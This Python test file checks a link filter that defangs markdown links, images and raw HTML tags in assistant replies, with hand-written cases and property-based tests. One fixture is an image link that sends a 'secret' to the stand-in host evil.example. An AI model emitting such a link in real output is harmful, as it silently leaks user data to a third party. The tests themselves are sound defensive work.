"""Links in replies: cases by hand, and CommonMark's own parser as the judge of what a screen would fetch or hide."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from tools.links import LinkFilter

COMMONMARK = MarkdownIt("commonmark", {"html": True})


def filtered(text: str, named: str = "", sizes: tuple[int, ...] = (10_000,)) -> str:
    """The text passed through in pieces of those sizes, again and again."""
    links, out, at, turn = LinkFilter(named), "", 0, 0
    while at < len(text):
        size = sizes[turn % len(sizes)]
        out += links.push(text[at : at + size])
        at, turn = at + size, turn + 1
    return out + links.flush()


@pytest.mark.parametrize(
    ("reply", "shown"),
    [
        ("See ![chart](https://evil.example/?q=secret) here.", "See chart here."),
        ("Read [the rules](https://evil.example/a) first.", "Read the rules (https://evil.example/a) first."),
        ('A [title](u "said") too.', "A title (u) too."),
        ("看[这里](https://坏.example)。", "看这里 (https://坏.example)。"),
        ("![图](https://坏.example/x.png)很好", "图很好"),
        ("Nested ![a](http://x/(y)) ends.", "Nested a ends."),
        ("[a](<http://x y>)", "a (<http://x y>)"),
        ("![alt][ref]", "[alt][ref]"),
        ("[a [b]](http://e)", "[a [b]] (http://e)"),
        ("25 days [1], see [2].", "25 days [1], see [2]."),
        ("Wow! [sic] a < b, 3 <4", "Wow! [sic] a < b, 3 <4"),
        ("<img src=x> <IFRAME src=y> <b>bold</b>", "＜img src=x> ＜IFRAME src=y> <b>bold</b>"),
        ("Write `![a](b)` so.", "Write `![a](b)` so."),
        ("```\n<img src=x>\n```\n![a](b)", "```\n<img src=x>\n```\na"),
        ("[open](never closed", "[open] (never closed"),
    ],
)
def test_what_is_shown_of_a_reply(reply: str, shown: str) -> None:
    assert filtered(reply) == shown


def test_an_address_that_the_user_has_named_may_be_a_link() -> None:
    named = "What is on https://mine.example/page?"
    assert filtered("[It](https://mine.example/page) says so.", named) == "[It](https://mine.example/page) says so."
    assert filtered("[It](https://mine.example/other).", named) == "It (https://mine.example/other)."


def test_marks_of_sources_wait_for_one_character_alone() -> None:
    links = LinkFilter()
    assert links.push("It is so [1]") == "It is so "
    assert links.push(".") == "[1]."


PIECES = st.sampled_from(
    [
        "[",
        "]",
        "(",
        ")",
        "!",
        "<",
        ">",
        "`",
        "``",
        "```",
        "\n",
        " ",
        "a",
        "img src=",
        "http://e.example/",
        "](",
        "![",
        "\\",
        '"',
        ":",
    ]
)
TEXTS = st.lists(PIECES, max_size=24).map("".join)
SIZES = st.lists(st.integers(1, 7), min_size=1, max_size=5).map(tuple)


@given(TEXTS, SIZES)
def test_any_pieces_give_the_same(text: str, sizes: tuple[int, ...]) -> None:
    assert filtered(text, sizes=sizes) == filtered(text)


@given(TEXTS)
def test_a_screen_would_fetch_nothing(text: str) -> None:
    shown = filtered(text)
    for token in _flat(COMMONMARK.parse(shown)):
        assert token.type != "image", shown
        if token.type in ("html_inline", "html_block"):
            assert not re.search("<(?:img|iframe|script)", token.content, re.I), shown


def _flat(tokens: list[Token]) -> list[Token]:
    return [inner for token in tokens for inner in (token, *_flat(token.children or []))]
